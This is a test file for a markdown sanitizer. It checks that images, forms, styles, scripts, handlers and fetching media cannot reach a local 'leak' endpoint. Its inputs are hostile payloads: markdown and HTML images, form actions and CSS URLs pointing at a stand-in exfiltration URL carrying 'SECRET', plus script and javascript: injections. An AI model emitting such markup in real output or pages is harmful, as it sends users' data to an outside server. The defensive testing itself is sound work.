// @vitest-environment jsdom
import { describe, expect, it } from "vitest";
import { renderMarkdown } from "./sanitize";

const LEAK = "http://127.0.0.1:9399/leak?d=SECRET";

/** The rendered HTML parsed into an inert document, for querying. */
function rendered(text: string): Document {
  return new DOMParser().parseFromString(`<body>${renderMarkdown(text)}</body>`, "text/html");
}

describe("renderMarkdown", () => {
  it("turns markdown and raw images into links, never <img>", () => {
    const doc = rendered(`![secret](${LEAK})\n\n<img src="${LEAK}&raw=1" alt="raw">`);
    expect(doc.querySelectorAll("img")).toHaveLength(0);
    const links = [...doc.querySelectorAll("a.image-link")] as HTMLAnchorElement[];
    expect(links.map((a) => a.getAttribute("href"))).toEqual([LEAK, `${LEAK}&raw=1`]);
    expect(links.map((a) => a.textContent)).toEqual(["image: secret", "image: raw"]);
    for (const a of links) expect(a.rel).toBe("noopener noreferrer");
  });

  it("keeps no image source that is not a web address as a link", () => {
    const doc = rendered(`<img src="data:image/svg+xml,<svg/>" alt="pixel">`);
    expect(doc.querySelectorAll("img, a")).toHaveLength(0);
    expect(doc.body.textContent).toContain("[image: pixel]");
  });

  it("drops forms, their controls and inline styles, keeping the text", () => {
    const doc = rendered(
      `<form action="${LEAK}" method="post"><input name="q" value="x">` +
        `<button formaction="${LEAK}">Send</button></form>\n\n` +
        `<p style="background:url(${LEAK})">styled</p><style>p{color:red}</style>`,
    );
    expect(doc.querySelectorAll("form, input, button, style, [style]")).toHaveLength(0);
    expect(doc.body.textContent).toContain("Send");
    expect(doc.body.textContent).toContain("styled");
    expect(doc.body.innerHTML).not.toContain("127.0.0.1:9399");
  });

  it("removes scripts, handlers and media that fetch", () => {
    const doc = rendered(
      `<script>alert(1)</script><a href="javascript:alert(1)" onclick="x()">j</a>` +
        `<video src="${LEAK}" poster="${LEAK}"></video><audio src="${LEAK}"></audio>` +
        `<iframe src="${LEAK}"></iframe><object data="${LEAK}"></object>` +
        `<svg><image href="${LEAK}"/></svg><link rel="stylesheet" href="${LEAK}">`,
    );
    expect(doc.querySelectorAll("script, video, audio, iframe, object, svg, link")).toHaveLength(0);
    const link = doc.querySelector("a");
    expect(link?.getAttribute("href")).toBeNull();
    expect(link?.getAttribute("onclick")).toBeNull();
    expect(doc.body.innerHTML).not.toContain("127.0.0.1:9399");
  });

  it("still renders what markdown means: emphasis, code, links, tables", () => {
    const doc = rendered(
      "**bold** and `code`\n\n```python\nprint(1)\n```\n\n[docs](https://example.com/x)\n\n" +
        "| a | b |\n|---|:-:|\n| 1 | 2 |",
    );
    expect(doc.querySelector("strong")?.textContent).toBe("bold");
    expect(doc.querySelector("pre code.language-python")?.textContent).toBe("print(1)\n");
    const link = doc.querySelector("a");
    expect(link?.getAttribute("href")).toBe("https://example.com/x");
    expect(link?.getAttribute("target")).toBe("_blank");
    expect(doc.querySelectorAll("table td")).toHaveLength(2);
  });
});
